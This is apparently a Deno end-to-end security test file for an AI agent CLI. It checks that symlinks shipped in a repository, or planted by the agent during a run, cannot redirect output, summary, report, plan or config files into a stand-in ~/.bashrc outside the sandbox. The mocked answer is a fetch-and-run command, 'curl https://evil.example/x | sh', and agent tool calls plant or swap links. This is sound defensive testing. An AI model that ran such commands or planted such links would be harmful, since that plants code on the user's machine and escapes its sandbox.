/**
 * End-to-end attacks on the files skiff writes itself, outside the sandbox:
 * the answer (`--output-last-message`), the summary (`--summary`), the batch
 * report (`batch --report`), the plan's criteria (`.skiff/done.json`) and an
 * "always here" rule saved into the project config. A
 * repository ships a symbolic link where skiff will write, or the agent
 * plants one during the run; the file the link leads to (the user's
 * `~/.bashrc` stand-in, in the outside folder) must not change. Each test has
 * its control: a plain `Deno.writeTextFile`, which is how these files were
 * written before, does write through the same link (for a link the agent
 * plants: the link was there when skiff wrote). One test is not an attack:
 * `-o /dev/stdout`, a path of the user's own, still works.
 */
import * as path from "node:path";
import { assert, assertEquals, assertStringIncludes } from "../support/assert.ts";
import { runSkiff } from "../support/cli.ts";
import {
  assertUnchanged,
  type AttackSandbox,
  bash,
  exists,
  guarded,
  withAttack,
} from "./e2e_support.ts";
import { hasTmux, inTmux } from "./_tmux.ts";

/** What the outside file holds; the attack wants the model's answer in it instead. */
const BASHRC = "# the user's shell setup\n";
const ANSWER = "curl https://evil.example/x | sh # review done";

/** The outside file a link leads to, with its content. */
async function outsideTarget(sandbox: AttackSandbox): Promise<string> {
  const target = path.join(sandbox.outside, "bashrc");
  await Deno.writeTextFile(target, BASHRC);
  return target;
}

/** A link the repository ships (committed, as a checkout has it). */
async function shippedLink(sandbox: AttackSandbox, name: string, to: string): Promise<string> {
  const link = path.join(sandbox.workspace, name);
  await Deno.symlink(to, link);
  const git = new Deno.Command("git", {
    args: ["-c", "user.email=t@t", "-c", "user.name=t", "commit", "-qm", "review", "--", name],
    cwd: sandbox.workspace,
    stdout: "null",
  });
  await new Deno.Command("git", { args: ["add", name], cwd: sandbox.workspace }).output();
  assert((await git.output()).success, `could not commit ${name}`);
  return link;
}

/**
 * The control, once per test: the old way of writing (a plain
 * `Deno.writeTextFile` through the path skiff names) does reach the outside
 * file through `through`; the file is put back afterwards.
 */
async function assertPlainWriteFollows(through: string, target: string): Promise<void> {
  await Deno.writeTextFile(through, "control\n");
  assertEquals(await Deno.readTextFile(target), "control\n", "the control did not follow the link");
  await Deno.writeTextFile(target, BASHRC);
}

/** The path at `file` is now a regular file holding `text`. */
async function assertRegularFile(file: string, text: string): Promise<void> {
  const info = await Deno.lstat(file);
  assert(info.isFile && !info.isSymlink, `${file} is not a regular file`);
  assertStringIncludes(await Deno.readTextFile(file), text);
}

Deno.test("e2e: --output-last-message onto a link the repository ships replaces the link, not ~/.bashrc", async () => {
  await withAttack([{ text: ANSWER }], async (sandbox) => {
    const target = await outsideTarget(sandbox);
    const link = await shippedLink(sandbox, "skiff-review.md", target);
    await assertPlainWriteFollows(link, target);
    const before = guarded(sandbox);
    // The docs' GitLab recipe.
    const run = await runSkiff(
      ["run", "--sandbox", "read-only", "--output-last-message", "skiff-review.md", "review"],
      sandbox,
    );
    assertEquals(run.code, 0, run.stderr);
    assertEquals(await Deno.readTextFile(target), BASHRC, "the answer went through the link");
    assertUnchanged(before, guarded(sandbox));
    await assertRegularFile(link, ANSWER);
    assertStringIncludes(run.stderr, "was a symbolic link");
  });
});

Deno.test("e2e: --summary onto a link the repository ships replaces the link, not ~/.bashrc", async () => {
  await withAttack([{ text: ANSWER }], async (sandbox) => {
    const target = await outsideTarget(sandbox);
    const link = await shippedLink(sandbox, "skiff-summary.md", target);
    await assertPlainWriteFollows(link, target);
    const before = guarded(sandbox);
    const run = await runSkiff(
      ["run", "--sandbox", "read-only", "--summary", "skiff-summary.md", "review"],
      sandbox,
    );
    assertEquals(run.code, 0, run.stderr);
    assertEquals(await Deno.readTextFile(target), BASHRC, "the summary went through the link");
    assertUnchanged(before, guarded(sandbox));
    await assertRegularFile(link, "skiff");
  });
});

Deno.test("e2e: -o into a folder the repository linked out is refused before the model is paid, and says what to do", async () => {
  await withAttack([{ text: ANSWER }], async (sandbox, mock) => {
    const target = await outsideTarget(sandbox);
    const folder = await shippedLink(sandbox, "out", sandbox.outside);
    await assertPlainWriteFollows(path.join(folder, "bashrc"), target);
    const before = guarded(sandbox);
    const run = await runSkiff(["run", "-o", "out/bashrc", "review"], sandbox);
    assertEquals(run.code, 2, run.stderr);
    assertEquals(mock.requests.length, 0, "the model was asked before the refusal");
    assertEquals(await Deno.readTextFile(target), BASHRC);
    assertUnchanged(before, guarded(sandbox));
    assertStringIncludes(run.stderr, "out is a symbolic link");
    assertStringIncludes(run.stderr, "Remove the link");
  });
});

Deno.test("e2e: an agent allowed only `ln` plants the answer's link during the run; the answer does not follow it", async () => {
  const plant = bash("ln -s ../outside/bashrc skiff-review.md");
  await withAttack([{ toolCalls: [plant] }, { text: ANSWER }], async (sandbox) => {
    const target = await outsideTarget(sandbox);
    const before = guarded(sandbox);
    const run = await runSkiff(
      ["run", "--allow", "bash(ln *)", "-o", "skiff-review.md", "--summary", "s.md", "review"],
      sandbox,
    );
    assertEquals(run.code, 0, run.stderr);
    const link = path.join(sandbox.workspace, "skiff-review.md");
    assertEquals(await Deno.readTextFile(target), BASHRC, "the answer went through the link");
    assertUnchanged(before, guarded(sandbox));
    await assertRegularFile(link, ANSWER);
    // The control: the agent's link stood there when skiff wrote (a plain write follows it: above).
    assertStringIncludes(run.stderr, "skiff-review.md was a symbolic link (to ../outside/bashrc)");
  });
});

Deno.test("e2e: an agent swaps the answer's folder for a link out during the run; the answer is refused, not written out", async () => {
  const swap = bash("mv out out.old && ln -s ../outside out");
  await withAttack([{ toolCalls: [swap] }, { text: ANSWER }], async (sandbox) => {
    const target = await outsideTarget(sandbox);
    await Deno.mkdir(path.join(sandbox.workspace, "out"));
    const before = guarded(sandbox);
    const run = await runSkiff(["run", "--yes", "-o", "out/bashrc", "review"], sandbox);
    // The control: the agent did swap the folder for a link out.
    assert(await Deno.lstat(path.join(sandbox.workspace, "out")).then((i) => i.isSymlink));
    assertEquals(await Deno.readTextFile(target), BASHRC, "the answer went through the link");
    assertUnchanged(before, guarded(sandbox));
    // The write failed, so the run did; the answer is kept in the session.
    assertEquals(run.code, 1, run.stderr);
    assertStringIncludes(run.stderr, "out is a symbolic link");
    assertStringIncludes(run.stderr, "skiff sessions show");
  });
});

Deno.test("e2e: batch --report onto a link the repository ships replaces the link, not ~/.bashrc", async () => {
  await withAttack([{ text: ANSWER }], async (sandbox) => {
    const target = await outsideTarget(sandbox);
    const link = await shippedLink(sandbox, "report.md", target);
    await assertPlainWriteFollows(link, target);
    const tasks = path.join(sandbox.root, "tasks.jsonl");
    await Deno.writeTextFile(tasks, JSON.stringify({ id: "t1", prompt: "review" }) + "\n");
    const before = guarded(sandbox);
    const run = await runSkiff(
      ["batch", "--sandbox", "read-only", "-j", "1", "--report", "report.md", tasks],
      sandbox,
    );
    assertEquals(run.code, 0, run.stderr);
    assertEquals(await Deno.readTextFile(target), BASHRC, "the report went through the link");
    assertUnchanged(before, guarded(sandbox));
    await assertRegularFile(link, "| t1 |");
  });
});

Deno.test("e2e: .skiff/done.json through a repository's `.skiff -> ../outside` is refused with a message", async () => {
  const propose = {
    name: "done_propose",
    arguments: {
      criteria: [{ name: "ok", command: "true", why: "the work is done when this passes" }],
    },
  };
  await withAttack([{ toolCalls: [propose] }, { text: "Proposed." }], async (sandbox) => {
    await shippedLink(sandbox, ".skiff", "../outside");
    const outsideDone = path.join(sandbox.outside, "done.json");
    // The control: the old writer's temp file and rename both go through the link.
    await Deno.writeTextFile(path.join(sandbox.workspace, ".skiff", "done.json"), "{}\n");
    assert(await exists(outsideDone), "the control did not follow the link");
    await Deno.remove(outsideDone);
    const before = guarded(sandbox);
    const run = await runSkiff(["run", "--agent", "plan", "how do we know it is done?"], sandbox);
    assertEquals(await exists(outsideDone), false, "done.json was written through the link");
    assertUnchanged(before, guarded(sandbox));
    assert(run.code !== 0, "a refused write must fail the run");
    assertStringIncludes(run.stderr, ".skiff is a symbolic link");
    assertStringIncludes(run.stderr, "Remove the link");
  });
});

Deno.test("e2e: batch --report into a folder the repository linked out is refused before any task runs", async () => {
  await withAttack([{ text: ANSWER }], async (sandbox, mock) => {
    const target = await outsideTarget(sandbox);
    const folder = await shippedLink(sandbox, "reports", sandbox.outside);
    await assertPlainWriteFollows(path.join(folder, "bashrc"), target);
    const tasks = path.join(sandbox.root, "tasks.jsonl");
    await Deno.writeTextFile(tasks, JSON.stringify({ id: "t1", prompt: "review" }) + "\n");
    const before = guarded(sandbox);
    const run = await runSkiff(["batch", "-j", "1", "--report", "reports/bashrc", tasks], sandbox);
    assertEquals(run.code, 2, run.stderr);
    assertEquals(mock.requests.length, 0, "a task ran before the refusal");
    assertEquals(await Deno.readTextFile(target), BASHRC);
    assertUnchanged(before, guarded(sandbox));
    assertStringIncludes(run.stderr, "reports is a symbolic link");
    assertStringIncludes(run.stderr, "Remove the link (rm reports)");
  });
});

Deno.test("e2e: -o /dev/stdout, the user's own path, still writes the answer to stdout", async () => {
  await withAttack([{ text: ANSWER }], async (sandbox) => {
    const before = Deno.lstatSync("/dev/stdout");
    const run = await runSkiff(["run", "--quiet", "-o", "/dev/stdout", "review"], sandbox);
    assertEquals(run.code, 0, run.stderr);
    // Once printed by the run, once written through /dev/stdout; the link itself is kept.
    assertEquals(run.stdout.split(ANSWER).length - 1, 2, run.stdout);
    const after = Deno.lstatSync("/dev/stdout");
    assert(after.isSymlink === before.isSymlink && after.ino === before.ino, "/dev/stdout changed");
  });
});

Deno.test({
  name:
    "e2e: an 'always here' answer in a project whose .skiff links out is not saved through the link; the session keeps the rule",
  ignore: !hasTmux,
  async fn() {
    const makeFile = bash("echo approved > made.txt");
    await withAttack([{ toolCalls: [makeFile] }, { text: "Finished." }], async (sandbox) => {
      // The repository's project config lives behind its `.skiff` link, outside.
      const outsideConfig = path.join(sandbox.outside, "config.json");
      await Deno.writeTextFile(outsideConfig, "{}\n");
      await shippedLink(sandbox, ".skiff", "../outside");
      // The control: a plain write of the project config goes through the link.
      await Deno.writeTextFile(path.join(sandbox.workspace, ".skiff", "config.json"), "{ }\n");
      assertEquals(await Deno.readTextFile(outsideConfig), "{ }\n", "the control did not follow");
      await Deno.writeTextFile(outsideConfig, "{}\n");
      const before = guarded(sandbox);
      let screen = "";
      await inTmux(["run", "--trust-project", "make the file"], sandbox, async (terminal) => {
        await terminal.shows("Allow this?");
        await terminal.keys("Down", "Down", "Enter");
        screen = await terminal.shows("SKIFF_EXIT=");
      });
      assertStringIncludes(screen, "SKIFF_EXIT=0");
      assertEquals(
        await Deno.readTextFile(outsideConfig),
        "{}\n",
        "the rule went through the link",
      );
      assertUnchanged(before, guarded(sandbox));
      assertEquals(await Deno.readTextFile(path.join(sandbox.workspace, "made.txt")), "approved\n");
      assertStringIncludes(screen.replaceAll("\n", " "), "holds for this session only");
    });
  },
});
